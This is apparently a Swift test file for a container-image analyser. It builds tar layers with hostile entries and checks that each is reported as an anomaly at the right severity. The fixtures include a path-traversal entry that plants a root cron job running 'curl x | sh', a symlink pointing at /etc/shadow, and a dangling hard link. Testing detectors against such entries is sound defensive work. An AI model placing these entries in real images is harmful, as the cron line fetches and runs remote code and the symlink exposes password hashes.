import ImageAnalysis
import MoatTesting
import OCIModel
import Testing

@Suite("AnomalyRule: hostile layer entries become MOAT-A001 findings, never crashes")
struct AnomalyRuleTests {
    @Test("a path-traversal entry, an escaping symlink and a dangling hard link are reported")
    func hostileEntries() async throws {
        let image = singleLayerImage { tar in
            tar.directory("app")
            tar.file("../../etc/cron.d/evil", "* * * * * root sh -c 'curl x | sh'\n")
            tar.symlink("app/shadow", to: "../../../../etc/shadow")
            tar.hardLink("app/hard", to: "app/never-written")
            tar.file("app/ok.txt", "fine\n")
        }
        let report = try await analyze(image)
        let anomalies = report.findings(RuleCatalog.anomaly)
        let kinds = Dictionary(anomalies.map { ($0.details?["kind"] ?? "", $0) }, uniquingKeysWith: { first, _ in first })
        let traversal = try #require(kinds["path-escapes-root"], "\(anomalies.map(\.message))")
        #expect(traversal.severity == .high)
        #expect(traversal.path == "/../../etc/cron.d/evil")
        #expect(traversal.layer == 0)
        let symlink = try #require(kinds["symlink-escapes-root"])
        #expect(symlink.severity == .medium)
        #expect(symlink.path == "/app/shadow")
        let hardLink = try #require(kinds["hard-link-target-missing"])
        #expect(hardLink.path == "/app/hard")
        // The traversal entry never lands in the tree; the rest of the layer is still read (app/ok.txt is the only regular file).
        #expect(report.totals.visibleFiles == 1)
        #expect(report.layers[0].filesAdded == 3, "app/shadow, app/hard, app/ok.txt (directories are not counted)")
        #expect(!report.verdict.minimal)
    }

    @Test("an absolute member name and a duplicate entry are low-severity anomalies")
    func sloppyEntries() async throws {
        let image = singleLayerImage { tar in
            tar.file("/etc/motd", "hello\n")
            tar.file("etc/issue", "one\n")
            tar.file("etc/issue", "two\n")
        }
        let report = try await analyze(image)
        let kinds = Set(report.findings(RuleCatalog.anomaly).compactMap { $0.details?["kind"] })
        #expect(kinds == ["absolute-path", "duplicate-entry"])
        #expect(report.findings(RuleCatalog.anomaly).allSatisfy { $0.severity == .low })
    }
}
